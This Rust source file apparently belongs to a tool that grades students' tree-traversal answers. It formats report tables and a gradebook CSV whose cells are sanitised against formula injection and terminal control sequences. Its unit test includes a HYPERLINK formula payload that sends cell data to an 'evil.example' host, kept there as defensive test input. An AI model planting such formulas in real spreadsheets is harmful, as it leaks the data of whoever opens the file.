//! A batch's report as rows: the text table (one row per file) and the
//! CSV for a gradebook, each with the file's diagnosis, and what could not
//! be tested.

use std::fmt::Write;

use super::report::{CheckReport, FileReport, percent};
use super::{Misconception, Untested};

/// The columns of the text table.
const COLUMNS: usize = 7;

impl CheckReport {
    /// One row per file, aligned, then the totals. A file that could not be
    /// checked scores `error` (the command tells why on standard error).
    /// The tree column is left blank for a tree file checked against its
    /// own `expect` lines; the diagnosis column names the misconception
    /// that explains a file's wrong answers (`fail-hard`). Under the table,
    /// for each tree whose answers are not all right, the misconceptions
    /// that could not be tested on it, and why.
    pub fn to_table(&self) -> String {
        let header = [
            "file",
            "tree",
            "passed",
            "failed",
            "total",
            "score",
            "diagnosis",
        ];
        let mut rows: Vec<[String; COLUMNS]> = vec![header.map(String::from)];
        for f in &self.files {
            let score = match f.error {
                Some(_) => "error".to_string(),
                None => percent(f.score),
            };
            let tree = if f.tree == f.file { "" } else { &f.tree };
            let diagnosis = f.diagnosis.as_ref().map(|d| d.name);
            let counts = [f.passed, f.failed, f.total];
            rows.push(row(&f.file, tree, counts, score, diagnosis));
        }
        let counts = [self.passed, self.failed, self.total];
        rows.push(row("total", "", counts, percent(self.score), None));
        let mut out = aligned(&rows);
        for line in self.untested_notes() {
            let _ = writeln!(out, "{line}");
        }
        out
    }

    /// `TREE: right-to-left could not be tested: ...`, once per tree and
    /// reason, for the trees with a file not all right.
    fn untested_notes(&self) -> Vec<String> {
        let mut trees: Vec<&FileReport> = Vec::new();
        for f in self
            .files
            .iter()
            .filter(|f| f.failed > 0 && !f.untested.is_empty())
        {
            if !trees.iter().any(|t| t.tree == f.tree) {
                trees.push(f);
            }
        }
        let notes = trees.iter().flat_map(|f| {
            let tree = crate::text::escaped(&f.tree);
            let sentences = Untested::sentences(&f.untested);
            sentences.into_iter().map(move |s| format!("{tree}: {s}"))
        });
        notes.collect()
    }

    /// A CSV table for a gradebook: a header, then one row per file; an
    /// error is given by its first line, `file:line:column: message`;
    /// `extras` counts the answers that score nothing, `untested` says
    /// which misconceptions could not be tested, and why. Cells are safe
    /// to open in a spreadsheet (see `csv_field`).
    pub fn to_csv(&self) -> String {
        let mut out = "file,tree,algorithm,passed,failed,total,score,error,points,max_points,\
                       diagnosis,extras,untested\n"
            .to_string();
        for f in &self.files {
            let error = f.error.as_deref().and_then(|e| e.lines().next());
            let diagnosis = f.diagnosis.as_ref().map(|d| d.misconception.as_str());
            let untested = Untested::sentences(&f.untested).join("; ");
            let fields = [
                csv_field(&f.file),
                csv_field(&f.tree),
                f.algorithm.to_string(),
                f.passed.to_string(),
                f.failed.to_string(),
                f.total.to_string(),
                f.score.to_string(),
                csv_field(error.unwrap_or("")),
                f.points().0.to_string(),
                f.points().1.to_string(),
                csv_field(diagnosis.unwrap_or("")),
                f.grade.as_ref().map_or(0, |g| g.extra_count).to_string(),
                csv_field(&untested),
            ];
            let _ = writeln!(out, "{}", fields.join(","));
        }
        out
    }
}

/// A row of the text table: names escaped (no control character reaches
/// the terminal), counts, score, diagnosis.
fn row(
    file: &str,
    tree: &str,
    [passed, failed, total]: [usize; 3],
    score: String,
    diagnosis: Option<Misconception>,
) -> [String; COLUMNS] {
    [
        crate::text::escaped(file).into_owned(),
        crate::text::escaped(tree).into_owned(),
        passed.to_string(),
        failed.to_string(),
        total.to_string(),
        score,
        diagnosis.map_or("", Misconception::name).to_string(),
    ]
}

/// Rows as columns: text left-aligned, numbers right-aligned.
fn aligned(rows: &[[String; COLUMNS]]) -> String {
    let widths: Vec<usize> = (0..COLUMNS)
        .map(|c| rows.iter().map(|r| r[c].chars().count()).max().unwrap_or(0))
        .collect();
    let mut out = String::new();
    for row in rows {
        let cells: Vec<String> = row
            .iter()
            .enumerate()
            .map(|(c, cell)| match c {
                0 | 1 | 6 => format!("{cell:<w$}", w = widths[c]),
                _ => format!("{cell:>w$}", w = widths[c]),
            })
            .collect();
        let _ = writeln!(out, "{}", cells.join("  ").trim_end());
    }
    out
}

/// A text cell of the CSV, safe to open in a spreadsheet: a cell that
/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return (which a
/// spreadsheet would read as a formula) is prefixed with `'`, as OWASP
/// recommends against formula injection; control and bidirectional
/// characters are written as their code points (`<U+001B>`); the cell is
/// quoted when it holds a comma, a quote or a line break, its quotes
/// doubled.
fn csv_field(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let escaped = crate::text::escaped(text);
    let cell = match formula {
        true => format!("'{escaped}"),
        false => escaped.into_owned(),
    };
    match cell.contains([',', '"', '\n', '\r']) {
        true => format!("\"{}\"", cell.replace('"', "\"\"")),
        false => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::csv_field;

    #[test]
    fn csv_cells_cannot_be_formulas_or_control_sequences() {
        assert_eq!(csv_field("alice.answers"), "alice.answers");
        assert_eq!(
            csv_field("=HYPERLINK(\"http:evil.example?x=\"&A1,\"click\").ans"),
            "\"'=HYPERLINK(\"\"http:evil.example?x=\"\"&A1,\"\"click\"\").ans\""
        );
        for start in ['=', '+', '-', '@'] {
            assert_eq!(csv_field(&format!("{start}1+1")), format!("'{start}1+1"));
        }
        assert_eq!(csv_field("\tcmd"), "'<U+0009>cmd");
        assert_eq!(csv_field("\r=1"), "'<U+000D>=1");
        assert_eq!(csv_field("a\u{1b}[31mb.ans"), "a<U+001B>[31mb.ans");
        assert_eq!(csv_field("a\nb"), "a<U+000A>b");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("x=1"), "x=1");
        assert_eq!(csv_field(""), "");
    }
}
